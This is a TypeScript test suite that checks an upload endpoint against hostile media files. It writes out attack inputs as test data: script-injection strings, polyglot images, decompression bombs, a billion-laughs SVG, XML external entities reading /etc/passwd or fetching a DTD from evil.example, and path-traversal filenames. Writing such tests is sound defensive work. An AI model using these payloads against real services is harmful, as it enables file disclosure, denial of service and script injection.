import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import sharp from 'sharp';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { avifOfSize, gifOfFrames, half, plain, pngBomb } from './testing/hostile-pictures';
import { box, numbers, placeOf, readFilm, withinMovie } from './testing/mp4';
import { startStaffBackend, TestUploads } from './testing/upload-function';
import type { StaffBackend } from './testing/upload-function';
import { element, header, makeWebm, track, tracks, cluster } from './testing/webm';

let backend: StaffBackend;
let uploads: TestUploads;

beforeAll(async () => {
  backend = await startStaffBackend();
});
afterAll(() => backend.stop());

beforeEach(async () => {
  uploads = await TestUploads.start(backend);
});
afterEach(() => uploads.stop());

type Make = () => Buffer | string | Promise<Buffer>;
const MEGABYTE = 1024 * 1024;
const ftyp = (brand: string, ...others: string[]) => box('ftyp', brand, numbers(0), ...others);
const svg = (content: string, prolog = '') =>
  `${prolog}<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9">${content}</svg>`;
const longer = async (make: () => Promise<Buffer>, size: number) => {
  const bytes = await make();
  return Buffer.concat([bytes, Buffer.alloc(size - bytes.length)]);
};
const jpeg = () => plain(90, 60).jpeg().toBuffer();
const png = () => plain(90, 60).png({ compressionLevel: 0 }).toBuffer();

const refused: [what: string, make: Make, status: number, code: string, name?: string][] = [
  // Nothing of ours, whatever it is called.
  ['a page', () => '<!doctype html><script>alert(1)</script>', 415, 'unsupported-type'],
  ['a page with a drawing in it', () => '<html><svg></svg></html>', 415, 'unsupported-type'],
  ['a script', () => 'alert(document.cookie)', 415, 'unsupported-type', 'photo.js.png'],
  ['a Windows program', () => `MZ${'\0'.repeat(200)}PE`, 415, 'unsupported-type'],
  ['a Linux program', () => Buffer.from('7f454c46020101', 'hex'), 415, 'unsupported-type'],
  ['an MP3', () => `ID3\u0004${'\0'.repeat(200)}`, 415, 'unsupported-type', 'song.mp4'],
  [
    'a PDF that goes on as a JPEG',
    async () => Buffer.concat([Buffer.from('%PDF-1.7\n'), await jpeg()]),
    415,
    'unsupported-type',
  ],
  ['a ZIP', () => Buffer.from('504b0304140000000800', 'hex'), 415, 'unsupported-type', 'photo.png'],
  ['a TIFF', () => plain(9, 9).tiff().toBuffer(), 415, 'unsupported-type'],
  ['a BMP', () => `BM${'\0'.repeat(100)}`, 415, 'unsupported-type'],
  ['an icon', () => Buffer.from('00000100010010100000', 'hex'), 415, 'unsupported-type'],
  ['a text in UTF-7 that would be a drawing', () => '+ADw-svg+AD4-', 415, 'unsupported-type'],
  ['an empty file', () => '', 400, 'bad-request'],
  ['a picture with a null byte in its name', jpeg, 400, 'bad-request', 'photo.webp\0.html'],
  ['one byte', () => 'G', 415, 'unsupported-type'],
  ['a HEIC photo', () => ftyp('heic', 'mif1', 'heic'), 415, 'heic', 'IMG_0001.HEIC'],
  ['a HEIC photo that is called JPEG', () => ftyp('mif1', 'mif1', 'heic'), 415, 'heic'],
  ['a MOV video', () => ftyp('qt  ', 'qt  '), 415, 'mov', 'IMG_0002.MOV'],
  ['a MOV video that is called MP4', () => ftyp('qt  ', 'qt  '), 415, 'mov', 'film.mp4'],
  ['an old MOV video', () => box('moov', box('mvhd', Buffer.alloc(100))), 415, 'mov'],

  // Pictures that are none in the end.
  ['half a JPEG', async () => half(await plain(400, 400).jpeg().toBuffer()), 400, 'bad-request'],
  ['half a PNG', async () => half(await png()), 400, 'bad-request'],
  [
    'half a WebP',
    async () => half(await plain(400, 400).webp({ lossless: true }).toBuffer()),
    400,
    'bad-request',
  ],
  ['half an AVIF', async () => half(await plain(400, 400).avif().toBuffer()), 400, 'bad-request'],
  ['half a GIF', async () => half(await plain(400, 400).gif().toBuffer()), 400, 'bad-request'],
  ['half an animation', async () => half(await movingPicture()), 400, 'bad-request'],
  ['the first bytes of a JPEG', () => Buffer.from('ffd8ffe0', 'hex'), 400, 'bad-request'],
  ['a script that begins as a GIF', () => 'GIF89a=1;alert(1)//', 400, 'bad-request'],
  [
    'a page that begins as a PNG',
    () => Buffer.from('\x89PNG\r\n\x1a\n<script>', 'latin1'),
    415,
    'unsupported-type',
  ],

  // Bombs.
  [
    'a PNG that promises 30,000 × 30,000 pixels',
    () => pngBomb(30_000, 30_000, 100),
    413,
    'too-large',
  ],
  [
    'a PNG that promises a line of 2,000,000,000 pixels',
    () => pngBomb(2_000_000_000, 1, 100),
    400,
    'bad-request',
  ],
  ['more than 60 megapixels', () => plain(8000, 7501).png().toBuffer(), 413, 'too-large'],
  [
    'an AVIF that promises 30,000 × 30,000 pixels',
    () => avifOfSize(30_000, 30_000),
    413,
    'too-large',
  ],
  ['an animation of 1,001 frames', () => gifOfFrames(4, 4, 1001), 413, 'too-large'],
  ['an animation of 61 megapixels in all', () => gifOfFrames(1000, 1000, 61), 413, 'too-large'],
  ['a JPEG of one byte more than 25 MB', () => longer(jpeg, 25 * MEGABYTE + 1), 413, 'too-large'],
  ['a drawing of one byte more than 1 MB', () => svg(' '.repeat(MEGABYTE)), 413, 'too-large'],
  ['a drawing of countless parts', () => svg('<g/>'.repeat(20_001)), 413, 'too-large'],
  [
    'a drawing of endless depth',
    () => svg('<g>'.repeat(5000) + '</g>'.repeat(5000)),
    400,
    'bad-request',
  ],

  // Drawings that mean to be read in another way.
  [
    'a billion laughs',
    () =>
      svg(
        '<text>&c;</text>',
        '<!DOCTYPE svg [<!ENTITY a "ha"><!ENTITY b "&a;&a;"><!ENTITY c "&b;&b;">]>',
      ),
    400,
    'bad-request',
  ],
  [
    'a file of the server in an entity',
    () => svg('<text>&x;</text>', '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
    400,
    'bad-request',
  ],
  [
    'a parameter entity',
    () => svg('', '<!DOCTYPE svg [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]>'),
    400,
    'bad-request',
  ],
  [
    'a drawing in UTF-16',
    () => Buffer.from(`\uFEFF${svg('<path d="M0 0h9"/>')}`, 'utf16le'),
    400,
    'bad-request',
  ],
  [
    'a drawing that says it is in UTF-7',
    () => svg('+ADw-script/+AD4-', '<?xml version="1.0" encoding="UTF-7"?>'),
    400,
    'bad-request',
  ],
  ['a drawing with a null byte', () => svg('<path d="M0 0h9"/><scr\0ipt/>'), 400, 'bad-request'],
  [
    'a drawing that is not closed',
    () => '<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0h9">',
    400,
    'bad-request',
  ],
  [
    'a drawing of another namespace',
    () => '<svg xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></svg>',
    415,
    'unsupported-type',
  ],
  [
    'a drawing without a namespace',
    () => '<svg viewBox="0 0 9 9"><path d="M0 0h9"/></svg>',
    415,
    'unsupported-type',
  ],
  [
    'a drawing of nothing but a script',
    () => svg('<script>alert(1)</script>'),
    415,
    'unsupported-type',
  ],
  [
    'a drawing 1,000,000,000 wide',
    () => svg('<path d="M0 0h9"/>').replace('viewBox', 'width="1e9" height="1e9" viewBox'),
    400,
    'bad-request',
  ],

  // Videos that are none in the end.
  ['half an MP4', async () => half(await readFilm()), 400, 'bad-request', 'film.mp4'],
  ['an MP4 without an index', async () => withoutBox(await readFilm(), 'moov'), 400, 'bad-request'],
  ['an MP4 without content', async () => withoutBox(await readFilm(), 'mdat'), 400, 'bad-request'],
  [
    'an MP4 with a page behind it',
    async () => Buffer.concat([await readFilm(), Buffer.from('<script>alert(1)</script>')]),
    400,
    'bad-request',
  ],
  ['an MP4 with two indexes', async () => withinMovieTwice(await readFilm()), 400, 'bad-request'],
  [
    'an MP4 whose box is larger than the file',
    async () => Buffer.concat([await readFilm(), Buffer.from('7fffffff66726565', 'hex')]),
    400,
    'bad-request',
  ],
  [
    'an MP4 whose box is smaller than its head',
    async () => Buffer.concat([await readFilm(), Buffer.from('0000000466726565', 'hex')]),
    400,
    'bad-request',
  ],
  ['an MP4 whose samples lie behind its end', pointingBeyond, 400, 'bad-request'],
  ['an MP4 that only sounds', soundOnly, 415, 'unsupported-type', 'song.mp4'],
  [
    'an M4A',
    () => Buffer.concat([ftyp('M4A ', 'M4A '), Buffer.alloc(100)]),
    415,
    'unsupported-type',
  ],
  [
    'a WebM that is cut off',
    async () => makeWebm().subarray(0, -10),
    400,
    'bad-request',
    'film.webm',
  ],
  [
    'the beginning of a WebM',
    () => Buffer.concat([header(), Buffer.from('18538067', 'hex')]),
    400,
    'bad-request',
  ],
  [
    'a WebM with a page behind it',
    () => Buffer.concat([makeWebm(), Buffer.from('<script>')]),
    400,
    'bad-request',
  ],
  [
    'a WebM without tracks',
    () => Buffer.concat([header(), element('18538067', cluster)]),
    400,
    'bad-request',
  ],
  ['a WebM that only sounds', () => webmOf(track(2, 'A_OPUS')), 415, 'unsupported-type'],
  [
    'a WebM with subtitles that could be anything',
    () => webmOf(track(1, 'V_VP8'), track(17, 'D_WEBVTT/METADATA')),
    415,
    'unsupported-type',
  ],
  ['a WebM of another codec', () => webmOf(track(1, 'V_MPEG4/ISO/AVC')), 415, 'unsupported-type'],
  [
    'a Matroska that is called WebM',
    () => Buffer.concat([header('matroska'), makeWebm()]),
    415,
    'unsupported-type',
    'film.webm',
  ],
];

function withoutBox(film: Buffer, type: string): Buffer {
  const { start, end } = placeOf(film, type);
  return Buffer.concat([film.subarray(0, start), film.subarray(end)]);
}

function withinMovieTwice(film: Buffer): Buffer {
  const { start, end } = placeOf(film, 'moov');
  return Buffer.concat([film, film.subarray(start, end)]);
}

async function pointingBeyond(): Promise<Buffer> {
  const film = await readFilm();
  film.writeUInt32BE(0x7fff_ffff, film.indexOf('stco') + 12);
  return film;
}

/** The film with its first track, the picture, renamed into one of nothing. */
async function soundOnly(): Promise<Buffer> {
  const film = await readFilm();
  film.write('free', film.indexOf('trak'), 'latin1');
  return film;
}

const webmOf = (...entries: Buffer[]) =>
  Buffer.concat([header(), element('18538067', tracks(...entries), cluster)]);

/** Three frames of noise, which hardly compresses. */
async function movingPicture(): Promise<Buffer> {
  const noise = { type: 'gaussian', mean: 128, sigma: 60 } as const;
  const create = { width: 90, height: 60, channels: 3, background: 'black', noise } as const;
  const frame = () => sharp({ create }).png().toBuffer();
  const frames = await Promise.all([frame(), frame(), frame()]);
  return sharp(frames, { join: { animated: true } })
    .gif()
    .toBuffer();
}

describe('refused, with nothing left behind', () => {
  it.each(refused)('%s', async (_what, make, status, code, name = 'photo.png') => {
    const response = await uploads.upload(Buffer.from(await make()), { name, type: 'image/png' });
    expect(await uploads.refusal(response)).toEqual([status, code]);
  });
});

describe('stored without what was hidden in it', () => {
  const polyglots: [what: string, make: () => Promise<Buffer>, name?: string][] = [
    [
      'a JPEG with a page behind it',
      async () => Buffer.concat([await jpeg(), Buffer.from('<script>Telltale')]),
    ],
    [
      'a JPEG with a page in its comment',
      () =>
        plain(90, 60)
          .withExif({ IFD0: { ImageDescription: '<script>Telltale' } })
          .jpeg()
          .toBuffer(),
      'photo.html',
    ],
    [
      'a JPEG with a PDF behind it',
      async () => Buffer.concat([await jpeg(), Buffer.from('%PDF-1.7 Telltale')]),
      'photo.pdf',
    ],
    [
      'a PNG with a ZIP behind it',
      async () =>
        Buffer.concat([await png(), Buffer.from('504b0304', 'hex'), Buffer.from('Telltale')]),
      'photo.zip',
    ],
    [
      'a GIF that is a script too',
      async () =>
        Buffer.concat([await plain(90, 60).gif().toBuffer(), Buffer.from('*/=1;Telltale')]),
      'photo.gif.js',
    ],
    [
      'a WebP with XMP',
      () =>
        plain(90, 60)
          .withXmp('<x:xmpmeta xmlns:x="adobe:ns:meta/">Telltale</x:xmpmeta>')
          .webp()
          .toBuffer(),
    ],
    [
      'an AVIF with a place',
      () =>
        plain(90, 60)
          .withExif({
            IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '53/1 33/1 0/1' },
            IFD0: { Make: 'Telltale' },
          })
          .avif()
          .toBuffer(),
    ],
  ];

  it.each(polyglots)('%s', async (_what, make, name = 'photo.jpg') => {
    const bytes = await make();
    expect(bytes.includes('Telltale')).toBe(true);
    const path = await uploads.store(bytes, { name });
    expect(path).toMatch(/^uploads\/[0-9a-f]{32}-90x60-[0-9a-f]{6}\.webp$/);
    const names = await uploads.names();
    expect(names).toHaveLength(3);
    for (const name of names) {
      const stored = await readFile(join(uploads.options.uploadDir, name));
      expect(stored.includes('Telltale')).toBe(false);
      const { exif, xmp, icc, iptc, width } = await sharp(stored).metadata();
      expect({ exif, xmp, icc, iptc }).toEqual({});
      expect([90, 1200]).toContain(width);
    }
  });

  it.each([
    '../../../../tmp/evil.html',
    '..\\..\\evil.webp',
    '/etc/passwd',
    '.htaccess',
    'con.png',
    `${'a'.repeat(5000)}.png`,
    '<script>alert(1)</script>.png',
  ])('a picture that is called %j', async (name) => {
    const path = await uploads.store(await jpeg(), { name });
    expect(path).toMatch(/^uploads\/[0-9a-f]{32}-90x60-[0-9a-f]{6}\.webp$/);
    expect(await uploads.names()).toHaveLength(3);
  });
});

describe('of the largest size that is taken', () => {
  it.each([
    ['a JPEG of 25 MB', () => longer(jpeg, 25 * MEGABYTE), /\.webp$/],
    [
      'an animation of 1,000 frames',
      () => gifOfFrames(4, 4, 1000),
      /-4x4-[0-9a-f]{6}-animated\.webp$/,
    ],
    ['a drawing of 1 MB', () => svg('<path d="M0 0h9v9z"/>').padEnd(MEGABYTE), /-9x9\.svg$/],
  ])('%s', async (_what, make, path) => {
    expect(await uploads.store(Buffer.from(await make()))).toMatch(path);
  });
});

it('takes an MP4 whose index has a script in it, and stores it without', async () => {
  const film = withinMovie(
    await readFilm(),
    box('udta', box('\u00a9nam', '<script>Telltale</script>')),
  );
  const path = await uploads.store(film, { name: 'film.html', type: 'text/html' });
  expect(path).toMatch(/^uploads\/[0-9a-f]{32}\.mp4$/);
  const response = await fetch(`${uploads.url}/${path}`);
  expect(response.headers.get('content-type')).toBe('video/mp4');
  expect(response.headers.get('x-content-type-options')).toBe('nosniff');
  expect(Buffer.from(await response.arrayBuffer()).includes('Telltale')).toBe(false);
});
